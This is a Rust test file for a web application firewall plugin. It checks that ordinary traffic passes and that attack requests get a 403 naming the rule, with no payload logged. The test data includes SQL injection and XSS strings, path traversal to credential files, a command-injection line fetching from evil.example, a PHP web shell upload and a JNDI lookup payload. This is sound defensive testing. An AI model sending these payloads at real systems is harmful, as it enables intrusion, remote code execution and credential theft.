//! The WAF plugin alone in front of FlightPath: each family of rules
//! blocks with a 403 naming the rule, never the payload; ordinary
//! requests and bodies pass.

use std::sync::OnceLock;

use edge_harness::TestApp;
use edge_harness::runtime::WasiHttpVersion;

const WAF: &str = env!("CARGO_MANIFEST_DIR");
const FLIGHTPATH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/flightpath");

type TestResult = Result<(), edge_harness::Error>;

fn app() -> &'static TestApp {
    static APP: OnceLock<TestApp> = OnceLock::new();
    APP.get_or_init(|| {
        TestApp::builder()
            .without_manifest()
            .plugin(WAF)
            .package(FLIGHTPATH)
            .expect("the waf composes in front of flightpath")
    })
}

#[test]
fn ordinary_requests_reach_the_app() -> TestResult {
    let res = app()
        .get("/api/flights?from=LHR&to=JFK")
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0",
        )
        .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        .send()?;
    res.assert_status(200)
        .assert_header("x-powered-by", "FlightPath");
    Ok(())
}

/// A request that trips `rule`, with `payload` a word of the attack.
struct Attack {
    target: &'static str,
    header: Option<(&'static str, &'static str)>,
    rule: &'static str,
    payload: &'static str,
}

const ATTACKS: [Attack; 9] = [
    Attack {
        target: "/api/flights?from=LHR%27%20UNION%20SELECT%20password",
        header: None,
        rule: "sqli-union",
        payload: "SELECT",
    },
    Attack {
        target: "/api/flights",
        header: Some(("referer", "https://x/?q=<script>alert(1)</script>")),
        rule: "xss-script",
        payload: "alert",
    },
    Attack {
        target: "/static/..%2f..%2fetc/passwd",
        header: None,
        rule: "traversal-dotdot",
        payload: "passwd",
    },
    Attack {
        target: "/?file=%252e%252e%252fsecret",
        header: None,
        rule: "traversal-dotdot",
        payload: "secret",
    },
    Attack {
        target: "/?id=1%20union/*!50000select*/%201,2",
        header: None,
        // libinjection reads MySQL's versioned comment as code before the
        // union rule sees the text without comments.
        rule: "sqli-libinjection",
        payload: "50000",
    },
    Attack {
        target: "/?x'%20or%20'a'='a",
        header: None,
        rule: "sqli-tautology",
        payload: "'a'",
    },
    Attack {
        target: "/?u=%26%23106;avascript:alert(1)",
        header: None,
        rule: "xss-uri",
        payload: "avascript",
    },
    Attack {
        target: "/files/..;/admin",
        header: None,
        rule: "traversal-dotdot",
        payload: "admin",
    },
    Attack {
        target: "/",
        header: Some(("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        rule: "bot-scanner",
        payload: "sqlmap",
    },
];

#[test]
fn each_family_is_blocked_with_its_rule_named_and_the_payload_not() -> TestResult {
    for attack in ATTACKS {
        let mut req = app().get(attack.target);
        if let Some((name, value)) = attack.header {
            req = req.header(name, value);
        }
        let res = req.send()?;
        let rule = attack.rule;
        res.assert_status(403).assert_header("x-waf-rule", rule);
        assert_eq!(
            res.text(),
            format!("Forbidden: blocked by WAF rule {rule}\n")
        );
        assert_eq!(res.header("x-powered-by"), None, "the app never ran");
        assert!(
            res.stderr().contains(&format!("by rule {rule} in the")),
            "{}",
            res.stderr()
        );
        assert!(
            !res.stderr().contains(attack.payload),
            "the log holds no payload: {}",
            res.stderr()
        );
    }
    Ok(())
}

#[test]
fn a_body_is_inspected_over_wasi_0_3_and_goes_on_unread_over_0_2() -> TestResult {
    let res = app()
        .post("/api/flights")
        .header("content-type", "application/json")
        .body(r#"{"from":"LHR","to":"JFK","departs":"<script>"}"#)
        .send()?;
    match WasiHttpVersion::from_env()? {
        // 0.2 cannot hand a read body on: the app gets it unread.
        WasiHttpVersion::P2 => {
            res.assert_status(201);
            assert!(res.text().contains("<script>"), "{}", res.text());
        }
        _ => {
            res.assert_status(403)
                .assert_header("x-waf-rule", "xss-script");
        }
    }
    Ok(())
}

#[test]
fn the_waf_alone_needs_only_the_standard_interfaces() -> TestResult {
    // No configuration, no store: `wasmtime serve -S cli` can run it.
    let app = TestApp::builder()
        .without_manifest()
        .standard_interfaces_only()
        .plugin(WAF)
        .package(FLIGHTPATH)?;
    app.get("/").send()?.assert_status(200);
    app.get("/?q=%3Cscript%3E")
        .send()?
        .assert_status(403)
        .assert_header("x-waf-rule", "xss-script");
    Ok(())
}

/// The eleven a review sent at the first WAF (issue 27, finding 7), each
/// in a query argument: all reached the app then.
const REVIEWED: [&str; 11] = [
    "' or true-- -",
    "' or 1#",
    "1 union table users",
    "1;replace into users values(1)",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "1 and randomblob(1000000000)",
    "';alert(document.domain)//",
    ".env",
    ".git/config",
    "/proc/1/environ",
    "c:/windows/system32/config/sam",
];

/// `text` percent-encoded for a query: every byte but letters and digits.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn the_reviewed_attacks_are_blocked() -> TestResult {
    let mut passed = Vec::new();
    for attack in REVIEWED {
        let res = app().get(&format!("/?q={}", encoded(attack))).send()?;
        if res.status() != 403 {
            passed.push(attack);
        }
    }
    assert!(passed.is_empty(), "reached the app: {passed:#?}");
    Ok(())
}

/// FlightPath for WASI 0.3 behind the WAF, which then reads bodies.
fn app_p3() -> &'static TestApp {
    static APP: OnceLock<TestApp> = OnceLock::new();
    APP.get_or_init(|| {
        TestApp::builder()
            .without_manifest()
            .wasi(WasiHttpVersion::P3)
            .plugin(WAF)
            .package(FLIGHTPATH)
            .expect("the waf composes in front of flightpath for 0.3")
    })
}

#[test]
fn attacks_in_json_multipart_and_xml_bodies_are_blocked() -> TestResult {
    let bodies = [
        (
            "application/json",
            r#"{"from":"LHR","to":"JFK","note":{"text":["x' union select password from users--"]}}"#,
            "sqli-union",
        ),
        (
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\nx;wget -q -O- http://evil.example/x\r\n--b--\r\n",
            "rce-unix-command",
        ),
        (
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n",
            "protocol-multipart",
        ),
        (
            "application/xml",
            "<order><note attr=\"x\">${jndi:ldap://evil.example/a}</note></order>",
            "java-lookup",
        ),
    ];
    for (content_type, body, rule) in bodies {
        app_p3()
            .post("/api/flights")
            .header("content-type", content_type)
            .body(body)
            .send()?
            .assert_status(403)
            .assert_header("x-waf-rule", rule);
    }
    Ok(())
}

#[test]
fn ordinary_bodies_pass_whole() -> TestResult {
    let res = app_p3()
        .post("/api/flights")
        .header("content-type", "application/json")
        .body(
            r#"{"from":"LHR","to":"JFK","departs":"window seat, or aisle; it's fine -- thanks!"}"#,
        )
        .send()?;
    res.assert_status(201);
    assert!(
        res.text().contains("it's fine -- thanks!"),
        "{}",
        res.text()
    );
    Ok(())
}
